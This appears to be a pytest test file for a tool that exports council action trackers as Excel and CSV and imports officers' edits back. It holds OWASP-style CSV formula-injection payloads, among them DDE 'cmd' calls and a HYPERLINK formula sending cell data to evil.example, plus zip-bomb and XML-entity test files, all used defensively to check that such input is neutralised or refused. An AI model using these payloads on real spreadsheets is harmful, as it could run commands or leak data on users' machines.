"""The tracker as a workbook and as csv: out, in again, and what is said of everything that is wrong with it."""

import contextlib
import csv
import datetime
import io
import json
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import click
import pytest
import yaml
from click.testing import CliRunner, Result
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from conftest import ROOT
from scrutiny.commands import import_, tracker
from scrutiny.commands.export import command as export_command
from scrutiny.formula import defused, restored
from scrutiny.link import Target
from scrutiny.load import read_document
from scrutiny.load.content import load_content
from scrutiny.load.text import UNSEEN
from scrutiny.sheet import (
    Row,
    UnreadableSheetError,
    read_table,
    read_workbook,
    write_table,
    write_workbook,
)
from scrutiny.sheet.appended import with_updates
from scrutiny.sheet.cells import same_text
from scrutiny.sheet.columns import COLUMNS, NEW, Tracker
from scrutiny.sheet.grid import LARGEST_FILE
from scrutiny.sheet.news import Entry, entry_of, refusal_of

SAMPLE = ROOT / "tests" / "sample" / "content"
SEEDS = ROOT / "content"
CASES = ROOT / "tests" / "cases" / "sheet"
EPOCH = "1795348800"  # 22 November 2026
TODAY = datetime.date(2026, 11, 22)

HUB = "northwick/items/2024-hub"
THIRD = f"{HUB}#resolution-3"
GOOD = {"New date": "2026-09-16", "New by": "the committee", "New news": "Three teams have moved."}

# Cells that a spreadsheet runs: OWASP, CSV Injection, and the forms its examples and its list of signs give.
PAYLOADS = [
    *(
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?x="&A1,"Click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
    ),
    *("@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "-", "="),
    *("'=1+1", "''=1+1", "'", "'tis", '=1+1";=1+1', "- a dash is how a list begins"),
]


def cases(file: str) -> list[Any]:
    """Every case of a file; its name is the sentence."""
    read = yaml.load((CASES / file).read_text("utf-8"), yaml.BaseLoader)  # noqa: S506  text stays text
    return [pytest.param(case, id=sentence) for sentence, case in read.items()]


@pytest.fixture(autouse=True)
def today(monkeypatch: pytest.MonkeyPatch) -> None:
    """It is 22 November 2026."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)


@pytest.fixture
def content(tmp_path: Path) -> Path:
    """A copy of the invented councils' record."""
    return Path(shutil.copytree(SAMPLE, tmp_path / "content"))


def export(content: Path, file: Path, *options: str) -> Result:
    """Run ``scrutiny export``."""
    return CliRunner().invoke(export_command, [str(file), "--content", str(content), *options])


def exported(content: Path, file: Path, *options: str) -> Path:
    """Export a tracker and return its file."""
    told = export(content, file, "--force", *options)
    assert told.exit_code == 0, told.output
    return file


@pytest.fixture(scope="module")
def sample_xlsx(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The tracker of the sample's Northwick as a workbook."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", EPOCH)
        file = tmp_path_factory.mktemp("tracker") / "t.xlsx"
        return exported(SAMPLE, file, "--authority", "northwick").read_bytes()


def value(text: str) -> Any:
    """A cell's value as a case writes it."""
    if text.startswith("day "):
        return datetime.date.fromisoformat(text[4:])
    return float(text[7:]) if text.startswith("number ") else text or None


def edited(raw: bytes, cells: Mapping[str, str], reference: str = THIRD) -> bytes:
    """Write cells of one row of a workbook as an officer does in Excel."""
    book = load_workbook(io.BytesIO(raw))
    sheet = book["Tracker"]
    position = {head.value: head.column for head in sheet[1]}
    row = next(row for row in range(2, sheet.max_row + 1) if sheet.cell(row, 1).value == reference)
    for name, text in cells.items():
        column = position[name]
        assert column is not None
        sheet.cell(row, column).value = value(text)
    return saved(book)


def saved(book: Workbook) -> bytes:
    """The bytes of a workbook."""
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


Import = Callable[..., tuple[int, str]]


@pytest.fixture
def brought_in(tmp_path: Path, content: Path, capsys: pytest.CaptureFixture[str]) -> Import:
    """Import the bytes of a tracker into the copy; return the exit code and everything that was printed."""

    def bring(raw: bytes, name: str = "t.xlsx", *, yes: bool = True) -> tuple[int, str]:
        file = tmp_path / name
        file.write_bytes(raw)
        capsys.readouterr()
        code = tracker.import_tracker(file, content, yes=yes)
        told = capsys.readouterr()
        return code, told.out + told.err

    return bring


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file of a folder."""
    return {str(path.relative_to(folder)): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def test_the_tracker_of_a_council_as_csv(tmp_path: Path) -> None:
    """The csv of one council's tracker is this one, to the byte; a changed row needs a look at the change."""
    file = exported(SAMPLE, tmp_path / "t.csv", "--authority", "northwick")
    golden = CASES / "northwick.csv"
    assert file.read_bytes().decode("utf-8") == golden.read_bytes().decode("utf-8")


@pytest.mark.parametrize("name", ["t.xlsx", "t.csv"])
@pytest.mark.parametrize("record", [SAMPLE, SEEDS], ids=["sample", "seeds"])
@pytest.mark.parametrize("options", [(), ("--with-withheld",)], ids=["public", "all"])
def test_an_untouched_tracker_brings_nothing(
    record: Path, name: str, options: tuple[str, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Out and in again changes no byte of the record, and there is nothing to say of it."""
    content = Path(shutil.copytree(record, tmp_path / "content"))
    before = snapshot(content)
    file = exported(content, tmp_path / name, *options)
    assert tracker.import_tracker(file, content, yes=True) == 0
    assert capsys.readouterr().out == "There is nothing new in this tracker.\n"
    assert snapshot(content) == before


def test_the_same_tracker_gives_the_same_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two exports on one day are equal to the byte, whatever the clock says meanwhile."""
    one = exported(SAMPLE, tmp_path / "one.xlsx").read_bytes()
    monkeypatch.setenv("SOURCE_DATE_EPOCH", str(int(EPOCH) + 7))
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    assert exported(SAMPLE, tmp_path / "two.xlsx").read_bytes() == one
    with zipfile.ZipFile(io.BytesIO(one)) as archive:
        assert archive.read("docProps/core.xml").count(b">2026-11-22T00:00:00Z<") == 2
        assert {part.date_time for part in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_an_edit_goes_in_and_comes_out(content: Path, tmp_path: Path, brought_in: Import) -> None:
    """What an officer wrote in white cells becomes one update, shown first, and the next export has just that."""
    before = list(csv.reader(io.StringIO(table_of(content, tmp_path))))
    record = content / f"{HUB}.yml"
    was = record.read_text("utf-8")
    cells = GOOD | {"New delivery": "In Progress", "New assurance": "Reported by the owner", "New response": "accepted"}
    cells |= {
        "New evidence": "Letter\nMinutes, paragraph 2",
        "New evidence address": "https://northwick.example/letter",
    }
    raw = edited(exported(content, tmp_path / "t.xlsx").read_bytes(), cells)
    code, told = brought_in(raw)
    news = (
        '  - about: "#resolution-3"\n    on: 2026-09-16\n    by: the committee\n    text: Three teams have moved.\n'
        "    response: accepted\n    delivery: in progress\n    assurance: reported by owner\n    evidence:\n"
        "      - title: Letter\n        url: https://northwick.example/letter\n      - title: Minutes, paragraph 2\n"
    )
    assert code == 0
    assert "".join(f"+{line}\n" for line in news.splitlines()) in told
    assert "Added 1 piece of news to 1 file." in told
    assert record.read_text("utf-8") == was + news
    after = list(csv.reader(io.StringIO(table_of(content, tmp_path))))
    changed = [(one, other) for one, other in zip(before, after, strict=True) if one != other]
    assert [other[0] for _, other in changed] == [THIRD]
    names = [column.name for column in COLUMNS]
    assert {name: new for name, old, new in zip(names, *changed[0], strict=True) if old != new} == {
        "Response": "accepted",
        "Delivery": "in progress",
        "Assurance": "reported by owner",
        "Date of latest news": "2026-09-16",
        "Latest news": "Three teams have moved.",
        "Evidence": "Letter\nMinutes, paragraph 2",
        "Evidence address": "https://northwick.example/letter",
    }


def table_of(content: Path, folder: Path) -> str:
    """The tracker as the text of a csv file."""
    return exported(content, folder / "table.csv").read_text("utf-8-sig")


def test_the_same_news_is_not_added_twice(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """The same file brought in again adds nothing and says so; the old sheet's grey cells are no mistake."""
    raw = edited(sample_xlsx, GOOD)
    assert brought_in(raw)[0] == 0
    after = snapshot(content)
    code, told = brought_in(raw)
    assert (code, snapshot(content)) == (0, after)
    assert "1 row has news that is in the record already.\nThere is nothing new in this tracker." in told
    assert "Grey cells show what the record said before, in row 5. Export again for fresh ones." in told


def test_later_news_is_not_shown_yet(
    content: Path, sample_xlsx: bytes, tmp_path: Path, brought_in: Import, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A tracker of an earlier day shows only the news of that day and before."""
    assert brought_in(edited(sample_xlsx, GOOD))[0] == 0
    assert "Three teams have moved." in table_of(content, tmp_path)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1789171200")  # 12 September 2026
    assert "Three teams have moved." not in table_of(content, tmp_path)


def test_nothing_is_written_without_a_yes(
    content: Path, sample_xlsx: bytes, brought_in: Import, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without --yes the difference is shown: a pipe is told of --yes, a terminal is asked, and no is no."""
    raw, before = edited(sample_xlsx, GOOD), snapshot(content)
    code, told = brought_in(raw, yes=False)
    assert code == 1
    assert "+    text: Three teams have moved." in told
    assert "1 piece of news for 1 file: nothing was written. To write, add --yes." in told
    for answer, written in (("n\n", False), ("y\n", True)):
        terminal = io.StringIO(answer)
        monkeypatch.setattr(terminal, "isatty", lambda: True, raising=False)
        monkeypatch.setattr("sys.stdin", terminal)
        code, told = brought_in(raw, yes=False)
        assert "Add 1 piece of news to 1 file? [y/N]" in told
        assert (code == 0, snapshot(content) != before) == (written, written)


@pytest.mark.parametrize("case", cases("wrong_cells.yml"))
def test_a_wrong_cell_is_named(case: dict[str, Any], content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """A wrong cell is named by sheet, row and column with its cure, and nothing is written at all."""
    raw = edited(sample_xlsx, GOOD, f"{HUB}#resolution-2")  # good news of another row is not written either
    raw, before = edited(raw, GOOD | case["cells"]), snapshot(content)
    code, told = brought_in(raw)
    says = [f"t.xlsx, sheet “Tracker”, row 5, {line}" for line in case["says"]]
    assert [line for line in told.splitlines() if line.startswith("t.xlsx")] == says
    assert told.endswith("Nothing was written.\n")
    assert (code, snapshot(content)) == (1, before)


def test_csv_cells_are_named_without_a_sheet(content: Path, tmp_path: Path, brought_in: Import) -> None:
    """In csv, which has no sheets, a cell is named by row and column as Excel counts them."""
    rows = list(csv.reader(io.StringIO(table_of(content, tmp_path))))
    rows[3][len(COLUMNS) - len(NEW)] = "perhaps"
    code, told = brought_in(as_csv(rows), "t.csv")
    assert "t.csv, row 4, column “New response” (S): “perhaps” is not in the list of this column" in told
    assert code == 1


def as_csv(rows: list[list[str]], separator: str = ",", encoding: str = "utf-8-sig") -> bytes:
    """Rows as a program saves them."""
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=separator).writerows(rows)
    return text.getvalue().encode(encoding)


@pytest.mark.parametrize(
    "separator, encoding, first",
    [
        pytest.param(",", "utf-8-sig", "", id="CSV UTF-8"),
        pytest.param(",", "cp1252", "", id="CSV (Comma delimited) of Windows"),
        pytest.param(";", "cp1252", "", id="with semicolons"),
        pytest.param(",", "utf-8", "", id="without a mark"),
        pytest.param("\t", "utf-16", "", id="Unicode text"),
        pytest.param("|", "utf-8", "sep=|\r\n", id="with a line that names the separator"),
    ],
)
def test_csv_in_every_form_excel_saves(
    separator: str, encoding: str, first: str, content: Path, tmp_path: Path, brought_in: Import
) -> None:
    """Semicolons, tabs, Windows-1252 and UTF-16 are read as the same news."""
    rows = [row for row in csv.reader(io.StringIO(table_of(content, tmp_path))) if row[0].startswith(("Ref", "north"))]
    names = [column.name for column in COLUMNS]
    row = next(row for row in rows if row[0] == THIRD)
    for name, text in (GOOD | {"New news": "£5 “saved”; more, later"}).items():
        row[names.index(name)] = text
    raw = as_csv(rows, separator, encoding)
    if first:
        raw = first.encode(encoding) + raw
    code, told = brought_in(raw, "t.csv")
    assert code == 0, told
    assert "    text: £5 “saved”; more, later\n" in (content / f"{HUB}.yml").read_text("utf-8")


def test_days_as_excel_keeps_them(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """A date of Excel, the number behind it and a day in ISO order are the same day, also counted from 1904."""
    number = 46281
    for text in ("day 2026-09-16", f"number {number}", "2026-09-16", str(number)):
        raw = edited(sample_xlsx, GOOD | {"New date": text})
        assert "+    on: 2026-09-16" in brought_in(raw, yes=False)[1], text
    book = load_workbook(io.BytesIO(sample_xlsx))
    book.epoch = CALENDAR_MAC_1904
    number = 46281 - 1462  # the two calendars of Excel begin so many days apart
    raw = edited(saved(book), GOOD | {"New date": f"number {number}"})
    assert "+    on: 2026-09-16" in brought_in(raw, yes=False)[1]


def test_a_day_that_excel_turned_round_in_a_grey_cell_is_no_edit(
    content: Path, tmp_path: Path, brought_in: Import
) -> None:
    """Excel writes 2026-07-14 into csv as 14/07/2026; in a column of the record that is the same day."""
    text = table_of(content, tmp_path).replace('"2026-07-14"', "14/07/2026").replace('"14 July 2026"', "14-Jul-26")
    assert brought_in(text.encode(), "t.csv") == (0, "There is nothing new in this tracker.\n")


def test_a_stray_cell_far_below(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """A cell in the last row that Excel has is named like any other, and what lies between costs nothing."""
    book = load_workbook(io.BytesIO(sample_xlsx))
    book["Tracker"]["Y1048576"] = "x"
    code, told = brought_in(saved(book))
    assert code == 1
    assert "row 1048576, column “Reference” (A): this row has no reference" in told


def test_many_wrong_cells_are_not_all_told(content: Path, tmp_path: Path, brought_in: Import) -> None:
    """Of very many wrong cells the first hundred are told, and that there are more."""
    head = table_of(content, tmp_path).partition("\n")[0]
    code, told = brought_in((head + "\n" + '"a/b#c"\n' * 5000).encode(), "t.csv")
    assert code == 1
    assert "t.csv: more than 100 cells are wrong; only the first are shown — mend these first, then import" in told
    assert told.count("“a/b#c” is not in the record") == 100


def test_columns_in_any_order_and_of_ones_own(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """The order of columns is free, grey ones may go, a title may stand above, and a column of one's own is left."""
    book = load_workbook(io.BytesIO(edited(sample_xlsx, GOOD)))
    sheet = book["Tracker"]
    sheet.delete_cols(2, 8)
    sheet.insert_cols(1)
    sheet["A1"] = "Our own remarks"
    sheet.insert_rows(1)
    sheet["A1"] = "Actions of the children's committee"
    sheet.move_range(f"B1:B{sheet.max_row}", cols=30)
    code, told = brought_in(saved(book))
    assert code == 0, told
    assert "Note: Column “Our own remarks” (A) is none of the tracker's; it was not read." in told
    assert "    text: Three teams have moved.\n" in (content / f"{HUB}.yml").read_text("utf-8")


def test_columns_that_are_not_there(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """A heading that was renamed, deleted or doubled is named, each with its cure."""
    book = load_workbook(io.BytesIO(sample_xlsx))
    sheet = book["Tracker"]
    sheet["T1"], sheet["X1"], sheet["AC1"] = "New delivry", "Gefunden", "reference"
    code, told = brought_in(saved(book))
    place = "t.xlsx, sheet “Tracker”, row 1"
    assert code == 1
    assert f"{place}, column “New delivry” (T): this heading is not known — did you mean “New delivery”?" in told
    assert f"{place}: the column “New by” is missing — rename it back; columns may stand in any order" in told
    assert (
        f"{place}, column “Reference” (AC): there are two columns “Reference”, this one and column A — delete" in told
    )


@pytest.mark.parametrize(
    "heading, told_as",
    [("News", "rename column “News” (Y) back"), ("Words", "rename it back"), ("", "rename it back")],
)
def test_a_renamed_column_is_one_problem(
    content: Path, sample_xlsx: bytes, brought_in: Import, heading: str, told_as: str
) -> None:
    """Of a column that has to be there only that it is missing is told, not what its cells would have said."""
    book = load_workbook(io.BytesIO(edited(sample_xlsx, GOOD)))
    head = next(cell for cell in book["Tracker"][1] if cell.value == "New news")
    head.value = heading or None
    code, told = brought_in(saved(book))
    (problem,) = [line for line in told.splitlines() if "(tracker-column)" in line]
    assert (code, told.count("(tracker-")) == (1, 1)
    assert problem == (
        "t.xlsx, sheet “Tracker”, row 1: the column “New news” is missing — "
        f"{told_as}; columns may stand in any order, and the cells below may be empty (tracker-column)"
    )
    assert "1 problem in 1 file" in told


@pytest.mark.parametrize("number", range(len(NEW)))
def test_a_column_that_is_gone_raises_no_other_problem(
    content: Path, sample_xlsx: bytes, brought_in: Import, number: int
) -> None:
    """Whichever white column is gone, the rows are not blamed for what stood in it."""
    given = {"New delivery": "implemented", "New done on": "2026-09-15", "New evidence address": "https://a.example/b"}
    book = load_workbook(io.BytesIO(edited(sample_xlsx, GOOD | {"New evidence": "Rota"} | given)))
    sheet = book["Tracker"]
    (column,) = [cell.column for cell in sheet[1] if cell.value == NEW[number].name]
    sheet.delete_cols(column)
    code, told = brought_in(saved(book))
    assert (code, told.count("(tracker-column)"), told.count("1 problem in 1 file")) == (1, 1, 1), told


@pytest.mark.parametrize(
    "written", ["17 September 2026", "17 Sept 2026", "17-Sep-2026", "Thursday 17 September 2026", "Thu, 17th sep 2026"]
)
def test_a_day_with_its_month_as_a_word_is_plain(
    content: Path, sample_xlsx: bytes, brought_in: Import, written: str
) -> None:
    """A day that names its month can be read in one way only, and is taken."""
    code, told = brought_in(edited(sample_xlsx, GOOD | {"New date": written}))
    assert code == 0, told
    assert "+    on: 2026-09-17" in told


@pytest.mark.parametrize(
    "written, why",
    [
        ("Friday 17 September 2026", "17 September 2026 is a Thursday; correct the day or leave the weekday out"),
        ("31 September 2026", "there is no such day in the calendar; correct it"),
        ("17-Sep-26", "write it as YYYY-MM-DD, for example 2026-05-31"),
        ("17 Setember 2026", "write it as YYYY-MM-DD, for example 2026-05-31"),
        ("September 2026", "write it as YYYY-MM-DD, for example 2026-05-31"),
        ("03/04/2026", "write 2026-04-03 if 3 April 2026 is meant"),
    ],
)
def test_a_day_that_is_not_plain(content: Path, sample_xlsx: bytes, brought_in: Import, written: str, why: str) -> None:
    """A weekday that does not fit, a day in no calendar and what can be read in two ways are refused."""
    code, told = brought_in(edited(sample_xlsx, GOOD | {"New date": written}))
    assert code == 1
    assert f"“{written}” is not plainly a day — {why}" in told


def test_cells_that_are_no_plain_values(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """Formulas, errors of Excel and merged cells are named; a formula is neither worked out nor repeated."""
    book = load_workbook(io.BytesIO(edited(sample_xlsx, GOOD | {"New news": '=HYPERLINK("https://evil.example")'})))
    sheet = book["Tracker"]
    sheet["A8"], sheet["K9"] = "=A7", "#REF!"
    sheet["K9"].data_type = "e"
    sheet.merge_cells("W10:X11")
    code, told = brought_in(saved(book))
    assert code == 1
    says = [
        (
            "row 5, column “New news” (Y): the cell holds a formula — copy the cell and paste it as a value (Paste"
            " Special, Values) (tracker-cell)\n"
        ),
        "row 8, column “Reference” (A): the cell holds a formula — write the reference itself (tracker-row)\n",
        (
            "row 9, column “Delivery” (K): the cell holds the error #REF!, and the record says “not implemented” — put"
            " this cell back, and write the news under “New delivery” (tracker-cell)\n"
        ),
        (
            "row 10, column “New done on” (W): the cells W10:X11 are merged, so that only one of them has a value —"
            " take the merging away and fill in each cell (tracker-cell)\n"
        ),
    ]
    assert told.startswith("".join(f"t.xlsx, sheet “Tracker”, {line}" for line in says))
    assert "evil" not in told


def test_rows_that_are_hidden_or_gone(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """Hidden rows are read, rows that were deleted or have no news stay as they are, and both are said."""
    book = load_workbook(io.BytesIO(edited(sample_xlsx, GOOD)))
    sheet = book["Tracker"]
    sheet.row_dimensions[5].hidden = True
    sheet.delete_rows(7, 2)
    sheet["F3"] = "Somebody else"
    code, told = brought_in(saved(book))
    assert code == 0
    assert "Note: 1 row is hidden, by a filter or by hand; hidden rows are read like the others." in told
    assert "Note: 2 actions of these councils have no row in this tracker and stay as they are." in told
    assert "Note: “Owner” differs from the record in row 3. The grey columns are not taken in; to change" in told
    assert "Added 1 piece of news" in told


def test_news_where_a_record_has_no_place_for_it(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """A promised look is recorded by the meeting that takes it: news in its row is refused, with the reason."""
    for reference in (f"{HUB}#resolution-1, follow-up", "northwick/items/2024-hub-follow-up#follow-up"):
        code, told = brought_in(edited(sample_xlsx, GOOD, reference))
        assert code == 1
        assert "column “New date” (V): news of this row has no place in the record — empty the cell; a promised" in told


def test_a_record_that_moved(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """An old tracker's row of a record that has moved is named with the new reference."""
    old = content / "northwick/items/2025-cabinet-homes.yml"
    moved = old.rename(old.with_name("2025-homes.yml"))
    moved.write_text(moved.read_text("utf-8") + "\nformerly: [northwick/items/2025-cabinet-homes]\n", "utf-8")
    code, told = brought_in(sample_xlsx)
    assert code == 1
    assert (
        "column “Reference” (A): the record “northwick/items/2025-cabinet-homes” has moved — write "
        "“northwick/items/2025-homes#resolution-1” (tracker-row)"
    ) in told


def test_a_record_in_brackets_is_left(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """Where a record is written so that nothing can be added safely, its file is named and left."""
    raw = edited(sample_xlsx, GOOD, "northwick/items/2025-cabinet-homes#resolution-1")
    path = content / "northwick/items/2025-cabinet-homes.yml"
    tree = read_document(path.read_bytes(), "a.yml").tree
    path.write_text(json.dumps(tree) + "\n", "utf-8")
    before = snapshot(content)
    code, told = brought_in(raw)
    assert code == 1
    assert told.startswith(
        "content/northwick/items/2025-cabinet-homes.yml: updates: news cannot be added to this file safely — write its"
    )
    assert snapshot(content) == before


def test_the_sheet_may_have_another_name(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """A sheet of another name is found by its headings and named; two that could be meant are refused."""
    book = load_workbook(io.BytesIO(sample_xlsx))
    book["Tracker"].title = "Actions 2026"
    assert brought_in(saved(book)) == (
        0,
        "There is nothing new in this tracker.\nNote: Read the sheet “Actions 2026”, as there is no sheet “Tracker”.\n",
    )
    book.copy_worksheet(book["Actions 2026"])
    assert brought_in(saved(book)) == (
        1,
        (
            "t.xlsx: “Actions 2026” and “Actions 2026 Copy” both look like the tracker — name the one that is meant "
            "“Tracker” (tracker-unreadable)\n1 problem in 1 file\n"
        ),
    )


def packed(**parts: bytes) -> bytes:
    """A zip file with parts as in a workbook."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return written.getvalue()


ENTITIES = packed(**{"xl/workbook.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><workbook>&b;</workbook>'})
STRICT = packed(**{"xl/workbook.xml": b'<workbook xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"/>'})
MACROS = packed(**{"xl/workbook.xml": b"<workbook/>", "xl/vbaProject.bin": b""})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
AGAIN = "export the tracker again with the command"
SAVE = "open it in Excel and save it as “Excel Workbook (*.xlsx)”"


@pytest.mark.parametrize(
    "name, raw, says",
    [
        pytest.param("t.xlsx", b"", f"the file is empty — {AGAIN} “scrutiny export t.xlsx”", id="0"),
        pytest.param("t.xlsx", b"Reference,", f"this is no Excel workbook — {SAVE}", id="csv called xlsx"),
        pytest.param("t.xlsx", packed(a=b"b"), f"this is no Excel workbook — {SAVE}", id="another zip"),
        pytest.param("t.xlsx", OLE + b"\0" * 600, f"this is a workbook of the old kind (.xls) — {SAVE}", id="xls"),
        pytest.param(
            "t.xlsx",
            OLE + "EncryptedPackage".encode("utf-16-le"),
            "the workbook is locked with a password — open it in Excel, take the password away (File, Info, Protect "
            "Workbook), and save it",
            id="password",
        ),
        pytest.param(
            "t.xlsx",
            lambda: packed(**{"xl/workbook.xml": b" " * 61_000_000}),
            "unpacked, the workbook is larger than 60 million bytes — copy the rows of the tracker into a new workbook "
            "without pictures and other sheets",
            id="zip bomb",
        ),
        pytest.param(
            "t.xlsx", ENTITIES, f"the workbook declares entities, which Excel never does — {SAVE}", id="entities"
        ),
        pytest.param(
            "t.xlsx", STRICT, f"the workbook is saved as “Strict Open XML Spreadsheet” — {SAVE}", id="strict"
        ),
        pytest.param("t.xlsx", MACROS, f"the workbook has macros — {SAVE}", id="macros"),
        pytest.param(
            "t.xlsx",
            lambda: b"x" * (LARGEST_FILE + 1),
            "the file has 20,000,001 bytes; the limit is 20,000,000 — split the tracker",
            id="too large",
        ),
        pytest.param(
            "t.xlsx",
            saved(Workbook()),
            "no sheet has the heading “Reference” at its top; the sheets are: “Sheet” — begin from a tracker made "
            "with the command “scrutiny export tracker.xlsx”",
            id="empty workbook",
        ),
        pytest.param(
            "t.xlsx",
            lambda: packed(**{"xl/workbook.xml": b"<workbook/>", "xl/worksheets/a.xml": b'<x:row r="1"/>' * 100_001}),
            "a sheet has more than 100,000 rows, most of them empty but formatted — delete the rows below the tracker, "
            "so that their format goes too, and save it",
            id="a million formatted rows",
        ),
        pytest.param(
            "t.xlsx",
            lambda: packed(**{"xl/workbook.xml": b"<workbook/>", "xl/worksheets/a.xml": b"<mergeCell />" * 1_001}),
            "a sheet has more than 1,000 merged cells — take the merging away and fill in each cell",
            id="merged everywhere",
        ),
        pytest.param(
            "t.csv", b"sep=", "no row at its top has the heading “Reference” — begin from a tracker made with the "
            "command “scrutiny export tracker.csv”", id="a separator and nothing else"
        ),
        pytest.param("t.csv", b"\xef\xbb\xbf \r\n", f"the file is empty — {AGAIN} “scrutiny export t.csv”", id="1"),
        pytest.param(
            "t.csv",
            b"Action,Status\r\n1,done\r\n",
            "no row at its top has the heading “Reference” — begin from a tracker made with the command “scrutiny "
            "export tracker.csv”",
            id="a csv of another kind",
        ),
        pytest.param(
            "t.csv",
            b'Reference,New news\r\n"a,b\r\nc,d\r\n',
            "row 2 cannot be read as csv (unexpected end of data) — a quotation mark has no partner there; open the "
            "file in Excel and save it as csv again",
            id="a quotation mark without partner",
        ),
        pytest.param(
            "t.csv", packed(a=b"b"), "this is no csv file — save the sheet as “CSV UTF-8 (Comma delimited)”", id="zip"
        ),
        pytest.param(
            "t.csv",
            b"\xff\xfea",
            "its letters cannot be read — save the sheet as “CSV UTF-8 (Comma delimited)”",
            id="half a letter",
        ),
    ],
)  # fmt: skip
def test_files_that_are_no_tracker(
    name: str, raw: bytes | Callable[[], bytes], says: str, content: Path, brought_in: Import
) -> None:
    """A file that cannot be read as a tracker is refused in plain words, with what to do, and nothing is changed."""
    before = snapshot(content)
    expected = f"{name}: {says} (tracker-unreadable)\n1 problem in 1 file\n"
    assert brought_in(raw if isinstance(raw, bytes) else raw(), name) == (1, expected)
    assert snapshot(content) == before


@pytest.mark.parametrize("name", ["t.xls", "T.ODS"])
def test_other_spreadsheets_are_wrong_use(content: Path, tmp_path: Path, name: str) -> None:
    """A file whose name says that it is another kind of spreadsheet is not opened."""
    (tmp_path / name).touch()
    with pytest.raises(click.UsageError, match=rf"{name} is a spreadsheet of another kind\. Open it and save it as"):
        import_.command.main([str(tmp_path / name), "--content", str(content)], standalone_mode=False)


def test_a_damaged_workbook_is_refused(sample_xlsx: bytes) -> None:
    """A workbook with a byte wrong, a part missing or a part that is no XML is read or refused, and nothing else."""
    damaged = [sample_xlsx[:at] + b"\x00" + sample_xlsx[at + 1 :] for at in range(0, len(sample_xlsx), 211)]
    with zipfile.ZipFile(io.BytesIO(sample_xlsx)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, text in parts.items():
        damaged += [packed(**{other: parts[other] for other in parts if other != name})]
        damaged += [packed(**parts | {name: text[: len(text) // 2]}), packed(**parts | {name: b"<a/>"})]
    refused = 0
    for raw in damaged:
        try:
            read_workbook(raw, "t.xlsx")
        except UnreadableSheetError:
            refused += 1
    assert refused > len(damaged) / 4


@given(st.binary(max_size=300))
def test_any_bytes_as_csv(raw: bytes) -> None:
    """Whatever bytes a csv file has, it is read or refused, and nothing else."""
    for text in (raw, b"Reference,New news\r\n" + raw):
        with contextlib.suppress(UnreadableSheetError):
            read_table(text, "t.csv")


def row_saying(text: str) -> Row:
    """A row of the tracker in which a text stands in every column of the record."""
    shown = dict.fromkeys((column for column in COLUMNS if not column.is_new), text)
    return Row(Target("a/items/2024-b", "action-1"), shown, {}, (), takes_news=True)


def fields(raw: bytes) -> list[str]:
    """The cells of the last row of a csv file, as a spreadsheet that knows nothing of us reads them."""
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[-1]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(payload: str) -> None:
    """A text that a spreadsheet would run goes out as text with an apostrophe before it, in csv and in the workbook."""
    assert all(not cell or cell[0] not in "=+-@\t\r\n＝＋－＠" for cell in fields(write_table([row_saying(payload)])))
    if "\r" in payload:
        return  # XML cannot hold it; no line of a record has one
    raw = write_workbook([row_saying(payload)], TODAY)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        assert not any(b"<f>" in archive.read(name) for name in archive.namelist() if "sheet1" in name)
    for cell in load_workbook(io.BytesIO(raw))["Tracker"][2]:
        assert cell.data_type in {"s", "n"}
        assert not str(cell.value or "").startswith(("=", "+", "-", "@"))


@given(st.one_of(st.text(), st.sampled_from(PAYLOADS), st.text("'=+-@\t\r\n＝a", max_size=6)))
def test_defusing_is_undone_exactly(text: str) -> None:
    """What was made harmless comes back as it was, also a text that has such apostrophes of its own."""
    assert restored(defused(text)) == text


# Any text that a line of a record may hold; a carriage return cannot be in one.
LINES = st.text(min_size=1, max_size=80).map(lambda text: UNSEEN.sub("", text).replace("\r", "").strip())


@settings(max_examples=60, deadline=None)
@given(LINES | st.sampled_from([payload.strip() for payload in PAYLOADS]) | st.just("_x000D_ and _x0041_"))
def test_any_text_of_a_record_comes_back(text: str) -> None:
    """Any text goes through csv and workbook and is the same when it is read."""
